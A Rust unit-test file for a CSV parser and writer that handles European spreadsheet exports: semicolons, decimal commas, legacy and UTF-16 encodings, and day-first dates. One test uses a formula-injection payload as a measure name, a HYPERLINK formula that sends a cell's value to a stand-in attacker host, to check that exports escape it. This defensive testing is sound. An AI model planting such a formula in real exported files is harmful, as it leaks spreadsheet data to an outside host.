//! Unit tests for files as spreadsheets outside the US and UK write them:
//! semicolons and decimal commas, legacy and UTF-16 encodings, day-first
//! dates, and exports that open right (a BOM, no formula runs).

use super::*;
use proptest::prelude::*;

fn rows_of(p: &Parsed) -> Vec<String> {
    p.rows
        .iter()
        .map(|r| format!("{} {} {}", p.names[r.name].text, r.week, r.value))
        .collect()
}

fn problems_of(p: &Parsed) -> Vec<String> {
    p.problems.iter().map(ToString::to_string).collect()
}

fn with(f: impl FnOnce(&mut Options)) -> Options {
    let mut o = Options::default();
    f(&mut o);
    o
}

#[test]
fn a_windows_1252_file_with_semicolons_and_decimal_commas() {
    // As Excel in France or Germany saves "CSV (separated by semicolons)".
    let bytes =
        b"week;Qualit\xE9;Co\xFBt \x80\r\n2026-W47;1.234,5;-0,25\r\n2026-11-25;\"7,5\";12\r\n";
    let o = with(|o| o.encoding = encoding("windows-1252").ok());
    let p = parse_with(bytes, &o);
    assert_eq!(problems_of(&p), Vec::<String>::new());
    assert_eq!(
        rows_of(&p),
        [
            "Qualité 2026-W47 1234.5",
            "Coût € 2026-W47 -0.25",
            "Qualité 2026-W48 7.5",
            "Coût € 2026-W48 12",
        ]
    );
    // Without --encoding the same bytes are refused at each cell, with the
    // option that reads them.
    let p = parse(bytes);
    assert!(
        problems_of(&p)[0].starts_with(
            "line 1, column 2: 'Qualit\\xE9' is not UTF-8 text: pass --encoding windows-1252"
        ),
        "{:?}",
        p.problems
    );
}

#[test]
fn an_excel_separator_line_names_semicolons() {
    let p = parse(b"sep=;\r\nmeasure;week;value;note\r\nA;2026-W48;104,5;fine; really\r\n");
    assert_eq!(
        problems_of(&p),
        [
            "line 3: 5 fields where the header has 4 (put quotes around values that hold the separator, ';')"
        ]
    );
    let p = parse(b"sep=;\r\nmeasure;week;value;note\r\nA;2026-W48;104,5;\"fine; really\"\r\n");
    assert_eq!(problems_of(&p), Vec::<String>::new());
    assert_eq!(rows_of(&p), ["A 2026-W48 104.5"]);
    assert_eq!(p.rows[0].note.as_deref(), Some("fine; really"));
    assert_eq!(p.rows[0].at, At::cell(3, 3));
}

#[test]
fn decimal_commas_are_read_only_where_they_cannot_be_misread() {
    let semicolons = |cell: &str| {
        let p = parse(format!("week;A\n2026-W48;{cell}\n").as_bytes());
        match p.problems.first() {
            Some(problem) => Err(problem.to_string()),
            None => Ok(p.rows[0].value),
        }
    };
    assert_eq!(semicolons("1,5"), Ok(1.5));
    assert_eq!(semicolons("0,125"), Ok(0.125));
    assert_eq!(semicolons("1.234,5"), Ok(1234.5));
    assert_eq!(semicolons("104.5"), Ok(104.5));
    assert_eq!(semicolons("12"), Ok(12.0));
    assert_eq!(
        semicolons("1.234"),
        Err("line 2, column 2: '1.234' is ambiguous: pass --decimal ',' if its points separate thousands, or --decimal '.' if it is a decimal point".into())
    );
    // Told, the same cell reads either way.
    for (decimal, want) in [(Decimal::Comma, 1234.0), (Decimal::Point, 1.234)] {
        let o = with(|o| o.decimal = Some(decimal));
        let p = parse_with(b"week;A\n2026-W48;1.234\n", &o);
        assert_eq!(rows_of(&p), [format!("A 2026-W48 {want}")]);
    }
}

#[test]
fn values_with_decimal_commas() {
    let ok: &[(&str, f64)] = &[
        ("104,5", 104.5),
        ("1.234,5", 1234.5),
        ("1.234.567", 1_234_567.0),
        ("1 234,50 €", 1234.5),
        ("1\u{a0}234,5", 1234.5),
        ("1'234,5", 1234.5),
        ("-0,25", -0.25),
        ("(1.234,50)", -1234.5),
        ("12,5 %", 12.5),
        (",5", 0.5),
        ("1,5e3", 1500.0),
        ("7", 7.0),
    ];
    for (cell, want) in ok {
        assert_eq!(
            parse_value_in(cell, Decimal::Comma),
            Ok(*want),
            "cell {cell:?}"
        );
    }
    let hint = "write decimals with a comma (1,5), and points only between thousands (1.234,5), or pass --decimal '.'";
    for cell in ["1.5", "1,234.5", "1.23,4", "12.34"] {
        assert_eq!(
            parse_value_in(cell, Decimal::Comma),
            Err(format!("'{cell}' is not a number: {hint}")),
            "cell {cell:?}"
        );
    }
    assert_eq!(
        parse_value_in("1,2,3", Decimal::Comma),
        Err("'1,2,3' is not a number".into())
    );
}

#[test]
fn utf16_files_from_their_byte_order_mark() {
    // Excel's "Unicode text": UTF-16LE with a mark, separated by tabs.
    let text = "\u{feff}week\tRésumé\tA\r\n2026-W48\t3,5\t1\r\n";
    let le: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let be: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let o = with(|o| o.decimal = Some(Decimal::Comma));
    for bytes in [le, be] {
        let p = parse_with(&bytes, &o);
        assert_eq!(problems_of(&p), Vec::<String>::new());
        assert_eq!(rows_of(&p), ["Résumé 2026-W48 3.5", "A 2026-W48 1"]);
    }
}

#[test]
fn day_first_and_month_first_dates() {
    let file = b"week,A\n25/11/2026,1\n3/12/2026,2\n2026-W50,3\n";
    let o = with(|o| o.dates = "DD/MM/YYYY".parse().ok());
    assert_eq!(
        rows_of(&parse_with(file, &o)),
        ["A 2026-W48 1", "A 2026-W49 2", "A 2026-W50 3"]
    );
    let o = with(|o| o.dates = "MM/DD/YYYY".parse().ok());
    assert_eq!(
        problems_of(&parse_with(file, &o)),
        [
            "line 2, column 1: '25/11/2026' is not a week: no such day in the calendar (use 2026-W48 or a date such as 2026-11-25)"
        ]
    );
    let o = with(|o| o.dates = "DD.MM.YYYY".parse().ok());
    let p = parse_with(b"measure;week;value\nA;25.11.2026;1,5\n", &o);
    assert_eq!(rows_of(&p), ["A 2026-W48 1.5"]);
    // Without a format, which number is the day is not guessed.
    assert_eq!(
        problems_of(&parse(b"week,A\n03/04/2026,1\n")),
        [format!(
            "line 2, column 1: '03/04/2026' is a date with the day and the month in an order the file does not say: pass --date-format (one of {DATE_FORMATS}), or write weeks as 2026-W48 or dates as 2026-11-25"
        )]
    );
}

#[test]
fn hostile_names_are_exported_guarded_and_read_back_exactly() {
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "-5 churn",
        "+cmd",
        "@SUM(1)",
        "'quoted",
        "''=twice",
        "Plain",
    ];
    let mut w = WideWriter::new(Vec::new(), &names).unwrap();
    w.row("2026-W48".parse().unwrap(), &[Some(-5.0); 7])
        .unwrap();
    let bytes = w.finish().unwrap();
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.starts_with("\u{feff}week,\"'=HYPERLINK("), "{text}");
    assert!(text.contains(",'-5 churn,'+cmd,'@SUM(1),''quoted,'''=twice,Plain\n"));
    // Values stay numbers.
    assert!(text.ends_with("2026-W48,-5,-5,-5,-5,-5,-5,-5\n"), "{text}");
    let p = parse(&bytes);
    let read: Vec<&str> = p.names.iter().map(|n| n.text.as_str()).collect();
    assert_eq!(read, names);

    let mut w = LongWriter::new(Vec::new()).unwrap();
    w.row(
        "=1+1",
        "2026-W48".parse().unwrap(),
        -3.0,
        Some("-not a formula"),
    )
    .unwrap();
    let bytes = w.finish().unwrap();
    assert_eq!(
        bytes,
        "\u{feff}measure,week,value,note\n'=1+1,2026-W48,-3,'-not a formula\n".as_bytes()
    );
    let p = parse(&bytes);
    assert_eq!(rows_of(&p), ["=1+1 2026-W48 -3"]);
    assert_eq!(p.rows[0].note.as_deref(), Some("-not a formula"));
}

#[test]
fn a_file_refused_for_its_encoding_or_separator() {
    let cases: &[(&[u8], &str)] = &[
        (
            b"m\x00e\x00,\x00",
            "line 1: the file holds NUL bytes, as UTF-16 text without a byte-order mark does: pass --encoding utf-16le (or utf-16be)",
        ),
        (
            b"\xFF\xFEw\x00\n\x00\x00\xD8",
            "line 2: this line is not UTF-16LE text: check the file's encoding (--encoding)",
        ),
        (
            b"sep=#\r\nweek#A\r\n",
            "line 1: the file says its separator is '#', which rhythm does not read: save the file separated by commas or semicolons",
        ),
    ];
    for (input, want) in cases {
        assert_eq!(problems_of(&parse(input)), [*want]);
    }
}

fn led_text() -> impl Strategy<Value = String> {
    // Names and notes as a person types them (trimmed), often led by what
    // a spreadsheet would run as a formula, or by a quote.
    (
        prop_oneof![
            Just(""),
            Just("="),
            Just("-"),
            Just("+"),
            Just("@"),
            Just("'"),
            Just("'=")
        ],
        "\\PC{1,12}",
    )
        .prop_map(|(lead, rest)| format!("{lead}{rest}").trim().to_string())
        .prop_filter("empty", |s| !s.is_empty())
}

proptest! {
    #[test]
    fn both_forms_read_back_hostile_text_exactly(
        names in proptest::collection::vec(led_text(), 1..6),
        note in led_text(),
    ) {
        // Distinct (any case) names, as a team's measures are.
        let names: Vec<String> = names.iter().enumerate().map(|(i, n)| format!("{n} {i}")).collect();
        let refs: Vec<&str> = names.iter().map(String::as_str).collect();
        let week: Week = "2026-W48".parse().unwrap();
        let mut w = WideWriter::new(Vec::new(), &refs).unwrap();
        w.row(week, &vec![Some(1.5); refs.len()]).unwrap();
        let p = parse(&w.finish().unwrap());
        prop_assert_eq!(&p.problems, &[]);
        let read: Vec<&str> = p.names.iter().map(|n| n.text.as_str()).collect();
        prop_assert_eq!(read, refs.clone());

        let mut w = LongWriter::new(Vec::new()).unwrap();
        w.row(refs[0], week, -2.0, Some(&note)).unwrap();
        let p = parse(&w.finish().unwrap());
        prop_assert_eq!(&p.problems, &[]);
        prop_assert_eq!(&p.names[0].text, &names[0]);
        prop_assert_eq!(p.rows[0].note.as_deref(), Some(note.as_str()));
    }
}
